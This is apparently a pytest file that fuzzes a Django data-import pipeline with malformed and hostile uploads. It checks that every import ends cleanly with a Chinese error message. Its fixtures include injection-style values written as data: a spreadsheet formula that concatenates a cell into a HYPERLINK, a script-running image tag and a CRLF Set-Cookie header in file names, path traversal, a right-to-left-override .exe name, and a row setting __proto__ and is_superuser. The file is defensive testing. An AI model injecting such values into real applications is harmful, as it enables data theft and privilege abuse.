"""What strangers send, imported: it ends with a code and a sentence, in seconds, and the next good file imports.

The process that reads is the real one, with its limits, and a new one for each file, as in production. The mutants are made of
eight good files; their seed is printed.
"""

import io
import json
import os
import random
import time

import pytest
import zstandard
from django.utils import translation

from sources import importing, wording
from sources.models import ImportRun
from tests.builders import make_source
from tests.sources.test_readers_formats import HOSTILE, LINES, ROWS, TABLE, parquet, workbook, zipped

SECONDS = 20
pytestmark = pytest.mark.django_db


def row(**values) -> bytes:
    return json.dumps(values, ensure_ascii=False).encode()


GOOD = row(title="好的一行：为什么天是蓝的？")
# Name -> bytes, and how its import ends: a code of failure, or a reason for rejected rows, or "" where nothing is wrong with it.
MORE = {
    **{f"empty.{suffix}": (b"", "empty_file") for suffix in ("jsonl", "json", "csv", "tsv", "xlsx", "parquet", "zip", "gz")},
    "one.jsonl": (GOOD, ""),
    "mark.jsonl": (b"\xef\xbb\xbf" + GOOD + b"\n\xef\xbb\xbf" + row(title="二"), ""),
    "gb.jsonl": ('{"title": "国标编码的一行字，没有说明"}'.encode("gb18030"), "not_utf8"),
    "utf16.jsonl": (LINES.encode("utf-16"), "not_utf8"),
    "utf16.noname.jsonl": (LINES.encode("utf-16-le"), "not_utf8|not_text"),
    "picture.jsonl": (b"\x89PNG\r\n\x1a\n" + bytes(300), "not_text"),
    "program.jsonl": (b"\x7fELF" + bytes(range(256)), "not_text"),
    "breaks.jsonl": (row(title="一\u2028二\u0085三") + b"\r\n" + GOOD + b"\r", ""),
    "deep1000.jsonl": (b'{"title": "x", "a": ' + b"[" * 1_000 + b"]" * 1_000 + b"}\n" + GOOD, "too_deep"),
    "deep100000.jsonl": (b'{"title": "x", "a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n" + GOOD, "too_deep"),
    "nan.jsonl": (b'{"title": NaN}\n{"title": 1e400000}\n{"title": Infinity}\n' + GOOD, "number_out_of_range"),
    "digits.jsonl": (b'{"title": ' + b"7" * 5_000 + b"}\n" + GOOD, "number_out_of_range|bad_json|no_text|"),
    "nul.jsonl": (b'{"title": "a\\u0000b"}\n' + GOOD, "nul_character"),
    "surrogate.jsonl": (b'{"title": "\\ud800"}\n' + GOOD, "lone_surrogate"),
    "inner_nul.jsonl": (row(qid=1, title="t", star=1, content="c&#0;d", answer_id=5) + b"\n" + GOOD, ""),
    "line64.jsonl": (b'{"title": "' + b"x" * 64 * 2**20 + b'"}\n' + GOOD, "too_long"),
    "line1.jsonl": (b'{"title": "' + b"x" * 2**20 + b'"}\n' + GOOD, "too_long"),
    "others.jsonl": (b'7\n[1]\nnull\n"text"\n' + GOOD, "not_an_object"),
    "list.jsonl": (b"[1]\n" + GOOD, "no_usable_rows"),
    "keys.jsonl": (row(title="k", **{f"k{n}": n for n in range(5_000)}) + b"\n" + GOOD, "too_many_columns"),
    "key.jsonl": (row(title="长键", **{"k" * 10_000: 1}), ""),
    "assignment.jsonl": (row(title="赋值", __proto__={}, constructor=1, pk=1, status="kept", source_id=9, is_superuser=True), ""),
    "types.jsonl": (row(title={"a": 1}, body=5, author=["x"]) + b"\n" + GOOD, "not_a_text"),
    "same.jsonl": (GOOD + (b"\n" + GOOD) * 20_000, ""),
    "line.json": (b"[" + b",".join([row(title=f"第{n}个")[:-1] + b"}" for n in range(20_000)]) + b"]", ""),
    "quote.csv": (b'title,body\n"never closed,x\ny,z\n' * 3, "unclosed_quote"),
    "nul.csv": (b"title,body\na\0b,c\nd,e\n", "nul_character"),
    "field.csv": (b"title,body\n" + b"x" * 200_001 + b",c\nd,e\n", "text_too_long"),
    "wide.csv": (",".join(f"c{n}" for n in range(5_000)).encode() + b"\n", "too_many_columns"),
    "ragged.csv": (b"title,body\na\nb,c,d\ne,f\n", "wrong_number_of_columns"),
    "formulas.csv": (b"title,body\n=HYPERLINK(\"http://x?\"&A1),x\n" + b"+1,x\n-1,x\n@SUM(A1),x\n'=1,x\n", "|wrong_number_of_columns"),
    "feather.parquet": (b"ARROW1\0\0" + bytes(200), "not_text"),
    "numpy.parquet": (b"\x93NUMPY" + bytes(200), "not_text"),
    "pickle.parquet": (b"\x80\x04\x95" + bytes(range(200)), "not_text|not_utf8|unknown_format"),
    "none.parquet": (parquet([{"title": None, "body": None}] * 3), "no_text|missing_column|no_usable_rows"),
    "bytes.parquet": (parquet([{"title": "字".encode("gb18030"), "body": "x"}, {"title": b"ok", "body": "y"}]), "bad_value"),
    "twice.zip": (zipped(("a.jsonl", LINES), ("a.jsonl", LINES)), "broken_archive|"),
    "long.zip": (zipped(("n" * 10_000 + ".jsonl", LINES)), ""),
    "a\r\nSet-Cookie: x.jsonl": (GOOD, ""),
    "..%2f..%2fx.jsonl": (GOOD, ""),
    "名" * 300 + ".jsonl": (GOOD, ""),
    "evil\u202elnosj.exe": (b"MZ" + bytes(400), "not_text"),
    "<img src=x onerror=alert(1)>.jsonl": (row(headers="Set-Cookie: a=b; Authorization: Bearer x", title="头"), ""),
}  # fmt: skip
CORPUS = {name: (lambda made=made: made, code) for name, (made, code) in MORE.items()} | HOSTILE


def imported(content: bytes, name: str) -> ImportRun:
    stored = importing.store(io.BytesIO(content), name)
    run, _is_new = importing.start_import(make_source(), stored, name=name, by=None)
    began = time.monotonic()
    importing.run_import(run.pk)
    assert time.monotonic() - began < SECONDS, name
    run.refresh_from_db()
    return run


def check(run: ImportRun, what: object) -> set[str]:
    """It is over, and whatever went wrong has a sentence in Chinese. Gives the codes."""
    with translation.override("zh-hans"):
        if run.state == "failed":
            assert any("\u4e00" <= char <= "\u9fff" for char in importing.describe(run)), what
            return {run.error_code}
        assert run.state == "succeeded", what
        assert run.read == run.created + run.known + run.rejected == run.posts.count() + run.known + run.rejected_rows.count(), what
        reasons = set(run.rejected_rows.values_list("reason", flat=True))
        assert all(any("\u4e00" <= char <= "\u9fff" for char in wording.row_reason(reason)) for reason in reasons), (what, reasons)
    return reasons


@pytest.mark.processes
@pytest.mark.parametrize("name", CORPUS)
def test_what_strangers_send_ends_with_a_sentence_and_the_next_file_imports(uploads, name):
    make, code = CORPUS[name]
    found = check(imported(make(), name), name)
    assert found & set(code.split("|")) or (not found and "" in code.split("|")), (name, found)
    after = imported(LINES.encode(), "next.jsonl")
    assert (after.state, after.created) == ("succeeded", len(ROWS))


SEEDS = {
    "x.jsonl": LINES.encode(),
    "x.json": json.dumps(ROWS, ensure_ascii=False, indent=1).encode(),
    "x.csv": TABLE.encode(),
    "x.tsv": TABLE.replace(",", "\t").encode(),
    "x.xlsx": workbook(),
    "x.parquet": parquet(),
    "x.zip": zipped(("a.jsonl", LINES), ("b.jsonl", LINES[: len(LINES) // 2])),
    "x.jsonl.zst": zstandard.compress(LINES.encode()),
}
TOKENS = (
    b"\0",
    b'"',
    b"{",
    b"}",
    b"[",
    b"]",
    b",",
    b"\n",
    b"\r",
    b"\\",
    b"\\u0000",
    b"\xff\xfe",
    b"PK\x03\x04",
    b"<",
    b"&",
    b"9" * 400,
    b"PAR1",
)


def mutant(content: bytes, dice: random.Random) -> bytes:
    data = bytearray(content)
    for _ in range(dice.choice((1, 1, 2, 5, 20))):
        at, length = dice.randrange(len(data) + 1), dice.choice((1, 1, 4, 64, 1_000))
        change = dice.randrange(6)
        if change == 0 and at < len(data):
            data[at] ^= 1 << dice.randrange(8)
        elif change == 1:
            del data[at : at + length]
        elif change == 2:
            data[at:at] = data[at : at + length] * dice.choice((1, 2, 50))
        elif change == 3:
            data[at:at] = dice.choice(TOKENS)
        elif change == 4:
            data[at : at + length] = dice.randbytes(length)
        else:
            del data[dice.randrange(len(data) // 2, len(data) + 1) :]
    return bytes(data)


def mutants(name: str, count: int) -> None:
    seed = int(os.environ.get("SEED") or random.randrange(10**6))
    print(f"seed {seed}")  # noqa: T201
    dice, ends = random.Random(f"{seed} {name}"), dict[str, int]()
    for number in range(count):
        run = imported(mutant(SEEDS[name], dice), name)
        codes = check(run, (seed, name, number))
        end = run.error_code if run.state == "failed" else "partial" if codes else "whole"
        ends[end] = ends.get(end, 0) + 1
        if number % 25 == 24:
            after = imported(LINES.encode(), "next.jsonl")
            assert (after.state, after.created) == ("succeeded", len(ROWS)), (seed, name, number)
    print(f"{count} mutants of {name}: {dict(sorted(ends.items()))}")  # noqa: T201


@pytest.mark.processes
@pytest.mark.parametrize("name", SEEDS)
def test_mutants_end_with_a_sentence_too(uploads, name):
    mutants(name, 5)


@pytest.mark.soak
@pytest.mark.parametrize("name", SEEDS)
def test_250_mutants_of_each_end_with_a_sentence_too(uploads, name):
    mutants(name, 250)
